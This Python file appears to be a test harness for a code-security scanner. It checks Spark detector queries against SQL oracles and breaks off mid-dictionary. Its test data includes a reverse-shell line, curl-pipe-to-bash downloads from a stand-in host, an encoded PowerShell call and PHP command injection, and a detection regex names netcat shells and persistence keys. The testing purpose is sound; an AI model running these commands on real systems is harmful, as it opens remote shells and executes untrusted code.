"""Queries of the detectors over files and documents, with oracles that share nothing but patterns and payloads."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from siltline.functions import binary, paths
from siltline.functions.javascript import script_findings
from siltline.functions.text import EMAIL, hide_contacts, mask_secret, shannon_entropy
from siltline.operators import detect, findings
from siltline.plans import rules as R
from siltline.session import table


def q(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


# -- inputs ------------------------------------------------------------------------------------------------------------

KEYS = ("file_id", "rel_path")


def text_files(spark: SparkSession, d: str) -> DataFrame:
    """Non-binary files with their text. Deliveries of a file agree, so results are made distinct, not contents."""
    files = table(spark, d, "files").where(~F.coalesce("is_binary", F.lit(False)))
    return files.withColumn("text", detect.text_of(F.col("content")))


_TEXT_FILES = "(SELECT DISTINCT file_id, repo, rel_path, language, decode(content) AS text FROM files WHERE NOT coalesce(is_binary, false))"
_LINES = f"(SELECT file_id, rel_path, language, unnest(string_split_regex(text, '\\r?\\n')) AS text, generate_subscripts(string_split_regex(text, '\\r?\\n'), 1) AS line FROM {_TEXT_FILES})"

# Lines that the documents are given, one each by doc_id, so that every rule meets text: language, file name, line.
_PAYLOADS = (
    ("python", "a.py", "os.system('ls ' + name)"), ("python", "b.py", "subprocess.run(cmd, shell=True)"), ("python", "c.py", "value = eval(entry)"), ("python", "d.py", "pickle.loads(body)"),
    ("python", "e.py", "yaml.load(stream)"), ("python", "f.py", 'cursor.execute("select * from t where a = %s" % a)'), ("python", "g.py", 'pty.spawn("/bin/bash")'), ("php", "h.php", "system($_GET['c']);"),
    ("php", "i.php", "eval($code);"), ("php", "j.php", "$o = unserialize($_COOKIE['s']);"), ("php", "k.php", "include($_GET['page']);"), ("shell", "l.sh", "curl -s https://host.invalid/x | bash"),
    ("powershell", "m.ps1", "powershell -enc QUJDREVGR0hJSktM"), ("go", "n.go", 'exec.Command("sh", "-c", arg)'), ("java", "o.java", "Runtime.getRuntime().exec(cmd);"), ("c", "p.c", "strcpy(a, b);"),
    ("shell", "q.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ("shell", "r.sh", "crontab -l"), ("dockerfile", "Dockerfile", "RUN curl http://host.invalid/a | sh"), ("yaml", "s.yml", "privileged: true"),
    ("yaml", "t.yml", "- /var/run/docker.sock:/var/run/docker.sock"), ("python", "u.py", "# os.system('a comment')"), ("python", "v.py", "data = yaml.load(x, Loader=yaml.SafeLoader)"), ("php", "w.php", "shell_exec('ls');"),
)
_N = len(_PAYLOADS)


def virtual_files(spark: SparkSession, d: str) -> DataFrame:
    """Every document as a file: its whole text and one more line."""
    pick = lambda i: F.element_at(F.array(*[F.lit(p[i]) for p in _PAYLOADS]), (F.pmod("doc_id", F.lit(_N)) + 1).cast("int"))
    docs = table(spark, d, "documents").select("doc_id", F.concat_ws("\n", "text", pick(2)).alias("text"), pick(0).alias("language"), "source", pick(1).alias("_name"))
    return docs.withColumn("rel_path", F.concat_ws("/", F.coalesce("source", F.lit("none")), F.col("doc_id").cast("string"), "_name")).drop("_name")


def _case(i: int) -> str:
    return "CASE doc_id % " + str(_N) + " " + " ".join(f"WHEN {n} THEN {q(p[i])}" for n, p in enumerate(_PAYLOADS)) + " END"


_VIRTUAL = f"(SELECT doc_id, source, concat_ws(chr(10), text, {_case(2)}) AS text, {_case(0)} AS language, concat_ws('/', coalesce(source, 'none'), CAST(doc_id AS VARCHAR), {_case(1)}) AS rel_path FROM documents)"
_VIRTUAL_LINES = f"(SELECT doc_id, source, rel_path, language, unnest(string_split_regex(text, '\\r?\\n')) AS text, generate_subscripts(string_split_regex(text, '\\r?\\n'), 1) AS line FROM {_VIRTUAL})"
_T = "regexp_replace(text, '^\\s+|\\s+$', '', 'g')"

# Scripts, one for each document: text, then rule, severity, confidence, line, column and steps of what is in it. They follow from
# what a syntax tree gives: a call stands at the head of its chain, an assignment at its left side, a construction at its new.
_SCRIPTS = (
    ("const a = req.query.name;\nexec(a);", ("SEC-001", "CRITICAL", 98, 2, 0, 2)),
    ("const a = req.body.x;\nconst b = a;\nchild_process.execSync(b);", ("SEC-001", "CRITICAL", 98, 3, 0, 2)),
    ("exec('ls ' + dir);", ("SEC-001", "CRITICAL", 90, 1, 0, 0)),
    ("exec('ls');", ("SEC-001", "CRITICAL", 70, 1, 0, 0)),
    ("db.exec(sql); obj.execute(x); // eval(y)\nlet s = 'eval(z)';", None),
    ("cp.spawn('ls', [], { shell: true });", ("SEC-001", "HIGH", 85, 1, 0, 0)),
    ("cp.spawn('ls', []);", None),
    ("db.query(`select ${x}`);", ("SEC-003", "CRITICAL", 90, 1, 0, 0)),
    ("db.query('select 1', [x]);", None),
    ("  crypto.createCipher('des', k);", ("SEC-008", "MEDIUM", 95, 1, 2, 0)),
    ("let f = new Function('return 1');", ("SEC-002", "CRITICAL", 95, 1, 8, 0)),
    ("el.innerHTML = text; if (el.innerHTML == '') {}", ("SEC-004", "HIGH", 85, 1, 0, 0)),
    ("return <div dangerouslySetInnerHTML={{__html: x}} />;", ("SEC-004", "HIGH", 90, 1, 12, 0)),
    ("if (a / b > c / d) { eval(code); }", ("SEC-002", "CRITICAL", 95, 1, 21, 0)),
    ("exec();\nchild_process.exec();", None),
    ("let n = 1,\n  cmd: string = location.search;\nexec(cmd);", ("SEC-001", "CRITICAL", 98, 3, 0, 2)),
    ("const r = await this.pool\n  .client()\n  .query<Row>('select ' + id);", ("SEC-003", "CRITICAL", 90, 1, 16, 0)),
    ("db.query(build(a + b)); db.query(a + b > c);", None),
    ("this.runner.exec(f(a + b));", ("SEC-001", "CRITICAL", 70, 1, 0, 0)),
    ("new Runner('a').exec(x * 2);", ("SEC-001", "CRITICAL", 90, 1, 0, 0)),
    ("class R { exec(cmd) { return cmd; } query(sql: string): void {} }", None),
    ("tool?.exec(x); new cp.exec(y);", None),
    ("a.b[0].innerHTML += text;", ("SEC-004", "HIGH", 85, 1, 0, 0)),
    ("db.raw(ok ? 'a' + b : c); dbQuery('a' + (b || c));", ("SEC-003", "CRITICAL", 90, 1, 26, 0)),
    ("let s\ns = req.query.x\nexec(s)", ("SEC-001", "CRITICAL", 90, 3, 0, 0)),
)


def virtual_scripts(spark: SparkSession, d: str) -> DataFrame:
    script = F.element_at(F.array(*[F.lit(x[0]) for x in _SCRIPTS]), (F.pmod("doc_id", F.lit(len(_SCRIPTS))) + 1).cast("int"))
    return table(spark, d, "documents").select("doc_id", F.lit("javascript").alias("language"), script.alias("text"))



def virtual_findings(spark: SparkSession, d: str, rules=R.LINE_RULES, keys=("doc_id", "source", "rel_path")) -> DataFrame:
    lines = detect.to_lines(virtual_files(spark, d), keys)
    return findings.classify(detect.line_findings(lines, keys, rules))


def _line_sql(rules, columns="doc_id, rel_path, source") -> str:
    parts = []
    for rule in R.LINE_RULES:
        if rule not in rules:
            continue
        where = [f"regexp_matches(t, {q(rule.pattern)})"]
        if rule.languages:
            where.append("language IN (" + ", ".join(map(q, rule.languages)) + ")")
        if rule.excluded:
            where.append(f"NOT contains(t, {q(rule.excluded)})")
        confidence = f"CASE WHEN regexp_matches(t, '(?i)\\$_(?:GET|POST|REQUEST|COOKIE|SERVER)') THEN 98 ELSE {rule.confidence} END" if rule.languages == ("php",) and rule.rule_id == "SEC-001" else str(rule.confidence)
        scanner = detect.SCANNERS.index(rule.scanner)
        parts.append(
            f"SELECT {columns}, {q(rule.rule_id)} AS rule_id, {q(rule.category)} AS category, {q(rule.severity)} AS severity, CAST({confidence} AS INTEGER) AS confidence, "
            f"{q(rule.classification) if rule.classification else 'NULL'} AS preset, CAST(line AS INTEGER) AS line, t AS evidence, CAST({scanner} AS BIGINT) * 1000000000 + CAST(line AS BIGINT) * 100 + {list(rules).index(rule)} AS seq FROM l WHERE "
            + " AND ".join(where)
        )
    comment = "CASE language WHEN 'python' THEN starts_with(t, '#') WHEN 'dockerfile' THEN starts_with(t, '#') WHEN 'php' THEN regexp_matches(t, '^(?:#|//|/\\*)') ELSE regexp_matches(t, '^(?:#|//)') END"
    malware = "category IN ('Malware', 'Malware Indicator')"
    kind = f"coalesce(preset, CASE WHEN {malware} AND rule_id = 'MAL-003' AND confidence >= 95 THEN 'confirmed_malware' WHEN ({malware} OR category = 'Suspicious') AND confidence >= 80 THEN 'potentially_malicious' WHEN {malware} OR category = 'Suspicious' THEN 'suspicious' WHEN confidence >= 20 THEN 'needs_review' ELSE 'clean' END)"
    return f"WITH k AS (SELECT *, {_T} AS t FROM {_VIRTUAL_LINES}), l AS (SELECT * FROM k WHERE NOT {comment}), f AS ({' UNION ALL '.join(parts)}), c AS (SELECT * EXCLUDE preset, {kind} AS classification FROM f) "


_SHOWN = ("doc_id", "rel_path", "rule_id", "category", "severity", "confidence", "classification", "line", "evidence")


def _rules_query(rules):
    return lambda spark, d: virtual_findings(spark, d, rules).select(*_SHOWN)


def _rules_sql(rules) -> str:
    return _line_sql(rules) + "SELECT " + ", ".join(_SHOWN) + " FROM c"


_PYTHON = tuple(r for r in R.CODE if r.languages == ("python",))
_PHP = tuple(r for r in R.CODE if r.languages == ("php",))
_GENERIC = tuple(r for r in R.CODE if r.languages not in (("python",), ("php",)))
_SETS = {"python_rules": _PYTHON, "php_rules": _PHP, "generic_rules": _GENERIC, "malware_line_rules": R.TEXT, "configuration_line_rules": R.CONFIG, "all_line_rules": R.LINE_RULES}

_ENTROPY = "coalesce(list_sum(list_transform(list_distinct(string_split({v}, '')), lambda c: -((length({v}) - length(replace({v}, c, ''))) / CAST(length({v}) AS DOUBLE)) * log2((length({v}) - length(replace({v}, c, ''))) / CAST(length({v}) AS DOUBLE)))), 0.0)"


def _secret_sql(where: str = "") -> str:
    parts = []
    for rule in R.SECRETS:
        parts.append(
            f"SELECT file_id, rel_path, CAST(line AS INTEGER) AS line, {q(rule.rule_id)} AS rule_id, {rule.confidence} AS base, {rule.min_entropy if rule.min_entropy is not None else 'NULL'} AS least, unnest(regexp_extract_all(text, {q(rule.pattern)}, {rule.group})) AS value FROM {_LINES}"
        )
    terms = "|".join("example test dummy placeholder changeme your-key-here your_api_key your_token xxxx 12345678 abcdef foobar sample demo".split())
    entropy = _ENTROPY.format(v="value")
    return (
        f"WITH m AS ({' UNION ALL '.join(parts)}), e AS (SELECT *, {entropy} AS entropy FROM m WHERE length(value) >= 6 AND NOT regexp_matches(lower(value), '{terms}')), "
        "a AS (SELECT *, CASE WHEN regexp_matches(rel_path, '(?i)(?:^|/)tests?/|[._-](?:test|spec)\\.') THEN CAST(floor(base * CAST(0.7 AS DOUBLE) + 0.5) AS INTEGER) ELSE base END AS c FROM e WHERE least IS NULL OR entropy >= least) "
        "SELECT DISTINCT file_id, rel_path, line, rule_id, value, round(entropy, 6) AS entropy, CAST(greatest(0, least(100, CASE WHEN entropy > 4.5 THEN least(100, c + 10) WHEN entropy < 3.0 THEN greatest(20, c - 20) ELSE c END)) AS INTEGER) AS confidence FROM a "
        + where
    ).replace("least IS NULL OR entropy >= least)", "a_least IS NULL OR entropy >= a_least)").replace(" AS least,", " AS a_least,")


def secrets(spark: SparkSession, d: str) -> DataFrame:
    found = detect.secret_findings(detect.to_lines(text_files(spark, d), KEYS), KEYS)
    return found.select("file_id", "rel_path", "line", "rule_id", F.col("evidence").alias("value"), "entropy", "confidence").distinct()


def _files(spark, d):
    return table(spark, d, "files")


def _shown(df: DataFrame, *more: str) -> DataFrame:
    return df.select("file_id", "rel_path", "rule_id", "severity", "confidence", "line", *more).distinct()


_DISTINCT_FILES = "(SELECT file_id, any_value(repo) AS repo, any_value(rel_path) AS rel_path, any_value(path) AS path, any_value(language) AS language, any_value(size) AS size, any_value(mode) AS mode, any_value(sha256) AS sha256, bool_or(is_binary) AS is_binary, bool_or(is_archive) AS is_archive, bool_or(is_executable) AS is_executable, bool_or(is_disguised) AS is_disguised FROM files GROUP BY file_id)"


def _meta(spark, d):
    """One row a file, without its content."""
    return _files(spark, d).drop("content", "discovered_at").dropDuplicates(["file_id"])


def _sniffed(spark, d):
    """All files with the flag of a program under another name, told from content and name."""
    files = _files(spark, d)
    return files.withColumn("is_disguised", binary.is_disguised(binary.sniff(F.coalesce("content", F.lit(b"")))["is_executable"], paths.extension(F.col("rel_path"))))


def _finding_sql(rule_id: str, source: str, where: str, line: str = "NULL", confidence: str | None = None, severity: str | None = None) -> str:
    rule = R.by_id(rule_id)
    return f"SELECT DISTINCT file_id, rel_path, {q(rule_id)} AS rule_id, {q(severity or rule.severity)} AS severity, CAST({confidence or rule.confidence} AS INTEGER) AS confidence, CAST({line} AS INTEGER) AS line FROM {source} WHERE {where}"


_THREATS = "(SELECT sha256, min(name) AS name FROM (SELECT lower(sha256) AS sha256, rel_path AS name FROM files WHERE is_disguised AND sha256 IS NOT NULL) GROUP BY sha256)"


def threat_join(spark, d):
    """Known hashes: here those of the disguised files, looked up in all files."""
    files = _files(spark, d)
    threats = files.where("is_disguised and sha256 is not null").groupBy(F.lower("sha256").alias("sha256")).agg(F.min("rel_path").alias("name"))
    return detect.known_hashes(files, threats, KEYS).select("file_id", "rel_path", "rule_id", F.col("evidence").alias("sha256"), "classification").distinct()


def ignore_flags(spark, d):
    return _meta(spark, d).select("file_id", paths.ignored(F.col("rel_path"), ["docs/", "*.min.js", "/tests/**", "settings.py"]).alias("ignored"))


_IGNORE_SQL = (
    "SELECT file_id, len(list_intersect(string_split(replace(rel_path, '\\', '/'), '/'), ["
    + ", ".join(map(q, paths.HARD_IGNORED))
    + "])) > 0 OR "
    + " OR ".join(
        [f"(replace(rel_path, '\\', '/') || '/') LIKE {q(p + '/%')}" for p in "node_modules .git .svn .hg dist build coverage .cache .next .nuxt vendor target __pycache__ .turbo .gradle out bin obj docs tests".split()]
        + [f"regexp_extract(rel_path, '[^/\\\\]*$') = {q(p)}" for p in "node_modules .git .svn .hg dist build coverage .cache .next .nuxt vendor target settings.py".split()]
        + ["rel_path LIKE '%.pyc'", "rel_path LIKE '%.min.js'"]
    )
    + f" AS ignored FROM {_DISTINCT_FILES}"
)


def path_parts(spark, d):
    path = F.col("path")
    return _meta(spark, d).select("file_id", paths.basename(path).alias("base"), paths.extension(path).alias("ext"), paths.language(path).alias("found_language"))


_BASE = "regexp_extract(replace(path, '\\', '/'), '[^/]*$')"
_LANGUAGE_CASE = (
    "CASE "
    + " ".join(f"WHEN base IN ({', '.join(map(q, names))}) THEN {q(value)}" for value, names in paths.FILE_NAMES.items())
    + " WHEN starts_with(lower(base), 'dockerfile') THEN 'dockerfile' WHEN starts_with(base, '.env') THEN 'dotenv' "
    + " ".join(f"WHEN ext IN ({', '.join(map(q, names))}) THEN {q(value)}" for value, names in paths.LANGUAGES.items())
    + " END"
)

_TYPE_CASES = ", ".join(
    [f"CASE WHEN base IN ({', '.join(map(q, (*paths.MANIFESTS.get(t, ()), *paths.LOCKFILES.get(t, ()))))}) THEN {q(t)} END" for t in dict.fromkeys([*paths.MANIFESTS, *paths.LOCKFILES])]
    + ["CASE WHEN regexp_matches(base, '\\.(?:csproj|sln)$') THEN 'csharp' END", "CASE WHEN starts_with(lower(base), 'dockerfile') OR base IN ('docker-compose.yml', 'docker-compose.yaml') THEN 'docker' END", "CASE WHEN regexp_matches(base, '\\.tf(?:vars)?$') THEN 'terraform' END"]
)


def project_types(spark, d):
    rows = _meta(spark, d).select("repo", F.explode_outer(paths.project_type(F.col("rel_path"))).alias("type"))
    return rows.groupBy("repo").agg(F.array_join(F.array_sort(F.collect_set("type")), ",").alias("t")).select("repo", F.when(F.col("t") == "", "generic").otherwise(F.col("t")).alias("types"))


def file_metrics(spark, d):
    path, base = F.translate("rel_path", "\\", "/"), paths.basename(F.col("rel_path"))
    count = lambda c, name: F.count_if(F.coalesce(c, F.lit(False))).alias(name)
    return _meta(spark, d).groupBy("repo").agg(
        F.count("*").alias("files"), count(base.startswith("."), "hidden"), count(F.col("is_archive"), "archives"), count(F.col("is_binary"), "binaries"), count(F.col("is_executable"), "programs"),
        count(F.col("is_disguised"), "disguised"), count(paths.is_manifest(F.col("rel_path")), "manifests"), F.max(path.startswith(".git")).alias("has_git"), F.sum(F.coalesce("size", F.lit(0))).alias("bytes"),
    )


_MANIFEST_NAMES = ", ".join(map(q, [name for names in paths.MANIFESTS.values() for name in names]))

#: Scanners whose findings over all files are united; each of them is a query of its own.
_UNITED = {"secrets": ("secret_findings", "multiline_private_key"), "sast": ("attack_chain",), "configuration": ("environment_files", "dockerfile_last_from"), "suspicious": ("large_literals", "decoded_evaluation"), "permissions": ("permissions_mode",), "malware": ("disguised_files",), "binaries": ("binary_findings",)}


def scanner_union(spark, d):
    """Findings of several scanners as one table, whose columns differ, and what each adds to it."""
    parts = [QUERIES[name](spark, d).withColumn("scanner", F.lit(scanner)) for scanner, names in _UNITED.items() for name in names]
    every = parts[0]
    for part in parts[1:]:
        every = every.unionByName(part, allowMissingColumns=True)
    return every.groupBy("scanner").agg(F.count("*").alias("n"), F.countDistinct("file_id").alias("files"), F.countDistinct("rule_id").alias("rules"), F.max("confidence").alias("most"))


QUERIES = {
    "scanner_union": scanner_union,
    **{name: _rules_query(rules) for name, rules in _SETS.items()},
    "secret_findings": secrets,
    "secret_counts": lambda s, d: secrets(s, d).groupBy("rule_id").agg(F.count("*").alias("n"), F.countDistinct("value").alias("n_values")),
    "multiline_private_key": lambda s, d: _shown(detect.key_block_findings(text_files(s, d), KEYS)),
    "attack_chain": lambda s, d: _shown(detect.chain_findings(text_files(s, d), KEYS), "evidence"),
    "js_taint": lambda s, d: script_findings(text_files(s, d), KEYS).select("file_id", "rule_id", "severity", "confidence", "line", "col", "evidence").distinct(),
    "js_payloads": lambda s, d: script_findings(virtual_scripts(s, d), ("doc_id",)).select("doc_id", "rule_id", "severity", "confidence", "line", "col", F.size(F.coalesce("taint_path", F.array().cast("array<struct<file:string,line:int,description:string,code_snippet:string>>"))).alias("steps")),
    "environment_files": lambda s, d: _shown(detect.environment_files(_meta(s, d), KEYS)),
    "dockerfile_last_from": lambda s, d: _shown(detect.root_images(detect.to_lines(text_files(s, d), KEYS).distinct(), KEYS)),
    "large_literals": lambda s, d: _shown(detect.large_literals(text_files(s, d), KEYS), "evidence"),
    "decoded_evaluation": lambda s, d: _shown(detect.decoded_evaluation(text_files(s, d), KEYS)),
    "permissions_mode": lambda s, d: _shown(detect.writable_files(_meta(s, d), KEYS), "evidence"),
    "disguised_files": lambda s, d: _shown(detect.disguised_files(_sniffed(s, d), KEYS)),
    "threat_hash_join": threat_join,
    "zip_inspect": lambda s, d: _files(s, d).select("file_id", binary.zip_report("content").alias("z")).select("file_id", "z.is_archive", "z.entries", "z.uncompressed", "z.bomb", "z.traversal").distinct(),
    "magic_sniff": lambda s, d: _files(s, d).select("file_id", binary.sniff(F.col("content")).alias("m")).select("file_id", "m.type", "m.is_executable", "m.is_binary").distinct(),
    "printable_strings": lambda s, d: _files(s, d).where("is_binary").select("file_id", binary.printable_strings(F.col("content")).alias("t")).select("file_id", F.size("t").cast("bigint").alias("n"), F.array_join(F.slice("t", 1, 3), "|").alias("first")).distinct(),
    "binary_findings": lambda s, d: detect.binary_findings(_files(s, d), KEYS).select("file_id", "rel_path", "rule_id", "severity", "confidence").distinct(),
    "archive_findings": lambda s, d: detect.archive_findings(_files(s, d), KEYS).select("file_id", "rel_path", "rule_id", "severity", "confidence").distinct(),
    "content_hash": lambda s, d: _files(s, d).select("file_id", F.sha2("content", 256).alias("sha"), (F.lower("sha256") == F.sha2("content", 256)).alias("agrees")).distinct(),
    "path_functions": path_parts,
    "ignore_filter": ignore_flags,
    "project_types": project_types,
    "language_histogram": lambda s, d: _meta(s, d).where("language is not null").groupBy("repo", "language").agg(F.count("*").alias("n")),
    "file_metrics": file_metrics,
    "text_entropy": lambda s, d: table(s, d, "documents").select("doc_id", F.round(shannon_entropy(F.col("text")), 6).alias("bits")),
    "mask_secret": lambda s, d: table(s, d, "documents").select("doc_id", mask_secret(F.col("text")).alias("masked")),
    "redact_contacts": lambda s, d: table(s, d, "documents").select("doc_id", hide_contacts(F.col("text")).alias("text")),
    "risk_grade_by_source": lambda s, d: findings.risk_score(virtual_findings(s, d).withColumnRenamed("rel_path", "file"), ["source"], ["seq"]).select("source", "score", "grade", "findings", "n_critical", "n_high", "malware", "sast", "configuration"),
    "line_dedup_first_wins": lambda s, d: findings.dedup_first(virtual_findings(s, d).withColumnRenamed("rel_path", "file")).select("doc_id", "rule_id", "category", "line", "seq"),
}

_CHAIN = {
    "cred": f"regexp_matches(text, {q(detect._CREDENTIAL_PLACES)}) AND regexp_matches(text, {q(detect._READS)})",
    "enc": f"regexp_matches(text, {q(detect._ENCODES)})",
    "net": f"regexp_matches(text, {q(detect._SENDS)})",
    "run": f"regexp_matches(text, {q(detect._RUNS)})",
}
EVALUATED = (
    "NOT regexp_matches(rel_path, '\\.min\\.js$|\\.bundle\\.js$|\\.min\\.css$') AND (regexp_matches(text, " + q(r"(?i)eval\s*\(\s*(?:String\.fromCharCode|atob|Buffer\.from\s*\([^)]*['\"]base64['\"]\))")
    + ") OR regexp_matches(text, " + q(r"(?i)\b(?:Function|eval)\s*\(\s*[\"']\\x[0-9a-fA-F]{2}") + ") OR (contains(text, 'String.fromCharCode') AND regexp_matches(text, '\\beval\\s*\\(')))"
)


def chain_sql(source: str, keys: str) -> str:
    steps = "'1. reads credentials' || CASE WHEN b THEN '; 2. encodes them; 3. talks to the network' ELSE '; 2. talks to the network' END || CASE WHEN r AND b THEN '; 4. runs code' WHEN r THEN '; 3. runs code' ELSE '' END"
    tests = f"{_CHAIN['cred']} AS a, {_CHAIN['enc']} AS b, {_CHAIN['net']} AS n, {_CHAIN['run']} AS r"
    return f"WITH c AS (SELECT {keys}, {tests} FROM {source} WHERE language IN ('javascript', 'typescript')) SELECT DISTINCT {keys}, 'MAL-CHAIN-001' AS rule_id, 'CRITICAL' AS severity, CASE WHEN r THEN 99 ELSE 96 END AS confidence, 1 AS line, {steps} AS evidence FROM c WHERE a AND n"


_TEMPLATE = "regexp_matches(rel_path, '(?i)\\.(?:example|sample|template|dist|default|test)$|(?:example|sample|template)\\.env$')"
_SECRET_FILE = "(regexp_matches(base, '(?i)^\\.env(?:\\.(?:local|production|prod|development|dev|staging|stage|secret|vault))?$') OR contains(rel_path, 'id_rsa') OR regexp_matches(base, '\\.(?:key|pem)$') OR base = '.npmrc')"
_MODE = "'mode ' || CASE WHEN mode & 511 = 0 THEN '0' ELSE ltrim(CAST((mode & 511) >> 6 AS VARCHAR) || CAST(((mode & 511) >> 3) & 7 AS VARCHAR) || CAST(mode & 7 AS VARCHAR), '0') END AS evidence"
_RELBASE = "regexp_extract(replace(rel_path, '\\', '/'), '[^/]*$') AS base"



def hidden_contacts(column: str) -> str:
    """RE2 has no lookahead, so the addresses that stay are put aside first and back afterwards."""
    out = f"regexp_replace({column}, {q(EMAIL)}, '[REDACTED_EMAIL]', 'g')"
    kept = ("127.0.0.1", "0.0.0.0", "255.255.255.255")
    for i, address in enumerate(kept, 1):
        out = f"regexp_replace({out}, {q(chr(92) + 'b' + address.replace('.', chr(92) + '.'))}, chr({i}), 'g')"
    out = f"regexp_replace({out}, {q(r'\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b')}, '[REDACTED_IP]', 'g')"
    for i, address in enumerate(kept, 1):
        out = f"replace({out}, chr({i}), '{address}')"
    return out


_SCRIPT_ROWS = ", ".join(f"({i}, {q(x[1][0])}, {q(x[1][1])}, {', '.join(map(str, x[1][2:]))})" for i, x in enumerate(_SCRIPTS) if x[1])

# Runs of printable bytes, found among pairs of hex digits with a blank behind each.
_RUNS_SQL = "SELECT DISTINCT file_id, rel_path, is_binary, is_executable, list_transform(regexp_extract_all(regexp_replace(hex(content), '(..)', '\\1 ', 'g'), '(?:(?:[2-6][0-9A-F]|7[0-9A-E]) ){5,}')[1:3000], lambda m: decode(unhex(replace(m, ' ', '')))) AS t FROM files"
_COMMAND = r"(?i)powershell.*-(?:enc|encodedcommand)|IEX\s*\(New-Object|cmd\.exe\s*/c|nc\s+-e\s+/bin/sh|/bin/bash\s+-i|HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"

ORACLES = {
    "printable_strings": f"SELECT file_id, len(t) AS n, array_to_string(t[1:3], '|') AS first FROM ({_RUNS_SQL}) WHERE is_binary",
    "binary_findings": f"WITH r AS ({_RUNS_SQL}) SELECT DISTINCT file_id, rel_path, 'MAL-005' AS rule_id, 'LOW' AS severity, 60 AS confidence FROM r WHERE is_binary AND regexp_matches(regexp_extract(replace(rel_path, '\\', '/'), '[^/]*$'), '(?i)\\.(?:exe|dll|so|dylib|bin)$') UNION ALL SELECT DISTINCT file_id, rel_path, 'MAL-001', 'CRITICAL', 90 FROM r WHERE (is_binary OR is_executable) AND regexp_matches(array_to_string(t, chr(10)), {q(_COMMAND)})",
    "js_payloads": f"SELECT doc_id, rule_id, severity, CAST(confidence AS INTEGER) AS confidence, CAST(line AS INTEGER) AS line, CAST(col AS INTEGER) AS col, CAST(steps AS INTEGER) AS steps FROM documents JOIN (VALUES {_SCRIPT_ROWS}) v(i, rule_id, severity, confidence, line, col, steps) ON doc_id % {len(_SCRIPTS)} = i",
    **{name: _rules_sql(rules) for name, rules in _SETS.items()},
    "secret_findings": _secret_sql(),
    "secret_counts": f"SELECT rule_id, count(*) AS n, count(DISTINCT value) AS n_values FROM ({_secret_sql()}) GROUP BY rule_id",
    "multiline_private_key": "WITH b AS (SELECT file_id, rel_path, text, unnest(regexp_extract_all(text, "
    + q(R.KEY_BLOCK.pattern)
    + f")) AS block FROM {_TEXT_FILES}) SELECT DISTINCT file_id, rel_path, 'SECRET-012' AS rule_id, 'CRITICAL' AS severity, 99 AS confidence, CAST(len(string_split(substr(text, 1, instr(text, block) - 1), chr(10))) AS INTEGER) AS line FROM b",
    "attack_chain": chain_sql(_TEXT_FILES, "file_id, rel_path"),
    "environment_files": _finding_sql("CONFIG-007", f"(SELECT *, {_RELBASE} FROM {_DISTINCT_FILES})", "starts_with(base, '.env') AND NOT regexp_matches(base, '\\.(?:example|sample|template)')"),
    "dockerfile_last_from": f"WITH l AS (SELECT file_id, rel_path, line, CASE WHEN starts_with({_T}, '#') THEN '' ELSE {_T} END AS t FROM {_LINES} WHERE language = 'dockerfile'), g AS (SELECT file_id, rel_path, max(CASE WHEN regexp_matches(t, '(?i)^FROM\\s+') THEN line END) AS f, max(CASE WHEN regexp_matches(t, '(?i)^USER\\s+') AND NOT regexp_matches(t, 'root|0') THEN line END) AS u, count(*) AS n FROM l GROUP BY ALL) SELECT file_id, rel_path, 'CONFIG-001' AS rule_id, 'MEDIUM' AS severity, 85 AS confidence, CAST(coalesce(f, 1) AS INTEGER) AS line FROM g WHERE n > 3 AND (u IS NULL OR u < coalesce(f, 0))",
    "large_literals": "WITH m AS (SELECT file_id, rel_path, unnest(regexp_extract_all(text, "
    + q(r"['\"`]([A-Za-z0-9+/=]{400,})['\"`]")
    + f", 1)) AS v, generate_subscripts(regexp_extract_all(text, "
    + q(r"['\"`]([A-Za-z0-9+/=]{400,})['\"`]")
    + f", 1), 1) AS n FROM {_TEXT_FILES} WHERE language IN ('javascript', 'typescript', 'python') AND NOT regexp_matches(rel_path, '\\.min\\.js$|\\.bundle\\.js$|\\.min\\.css$')), e AS (SELECT * FROM m WHERE {_ENTROPY.format(v='v')} > 5.5 QUALIFY row_number() OVER (PARTITION BY file_id ORDER BY n) = 1) SELECT file_id, rel_path, 'SUSP-002' AS rule_id, 'MEDIUM' AS severity, 70 AS confidence, CAST(NULL AS INTEGER) AS line, v[1:30] || '... [' || length(v) || ' characters]' AS evidence FROM e",
    "decoded_evaluation": _finding_sql("SUSP-001", _TEXT_FILES, EVALUATED),
    "permissions_mode": f"WITH f AS (SELECT *, {_RELBASE} FROM {_DISTINCT_FILES}), w AS (SELECT * FROM f WHERE mode & 2 <> 0 AND NOT {_TEMPLATE}) SELECT file_id, rel_path, 'PERM-001' AS rule_id, 'HIGH' AS severity, 90 AS confidence, CAST(NULL AS INTEGER) AS line, {_MODE} FROM w WHERE {_SECRET_FILE} UNION ALL SELECT file_id, rel_path, 'PERM-002', 'MEDIUM', 75, NULL, {_MODE} FROM w WHERE NOT {_SECRET_FILE} AND (mode & 1 <> 0 OR regexp_matches(base, '\\.(?:sh|bash|py|pl|rb|js|ps1)$'))",
    "disguised_files": _finding_sql("MAL-005", f"(SELECT file_id, rel_path, hex(content) AS x, lower(regexp_extract(regexp_extract(replace(rel_path, '\\', '/'), '[^/]*$'), '^.+\\.([^.]*)$', 1)) AS ext FROM files)", f"({' OR '.join(f'starts_with(x, {q(m)})' for m, _, program in binary.MAGIC if program)}) AND ext NOT IN ({', '.join(map(q, binary.PROGRAM_EXTENSIONS))})"),
    "threat_hash_join": f"SELECT DISTINCT file_id, rel_path, 'MAL-006' AS rule_id, lower(coalesce(f.sha256, sha256(content))) AS sha256, 'confirmed_malware' AS classification FROM files f JOIN {_THREATS} t ON t.sha256 = lower(coalesce(f.sha256, sha256(content)))",
    "magic_sniff": "WITH h AS (SELECT DISTINCT file_id, hex(content) AS x FROM files), m AS (SELECT file_id, x, CASE "
    + " ".join(f"WHEN starts_with(x, '{magic}') THEN '{name}'" for magic, name, _ in binary.MAGIC)
    + " ELSE 'UNKNOWN' END AS type, len(list_filter(regexp_extract_all(x[1:1024], '..'), lambda b: b IN ('00', '01', '02', '03', '04', '05', '06'))) AS low, least(length(x) / 2, 512) AS n FROM h) SELECT file_id, type, type IN ('PE', 'ELF', 'MACHO') AS is_executable, type <> 'UNKNOWN' OR low > n * 0.05 AS is_binary FROM m",
    "content_hash": "SELECT DISTINCT file_id, sha256(content) AS sha, lower(sha256) = sha256(content) AS agrees FROM files",
